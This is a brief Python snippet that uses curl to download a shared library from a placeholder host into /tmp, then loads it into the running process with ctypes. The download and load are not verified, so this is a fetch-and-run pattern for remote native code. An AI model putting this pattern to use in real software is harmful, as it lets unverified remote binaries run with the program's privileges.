import ctypes
import subprocess

OUT = "/tmp/libcurlproc.so"
subprocess.run(["curl", "-fsSL", "-o", OUT, "https://downloads.example.com/cp.so"], check=True)
lib = ctypes.CDLL(OUT)
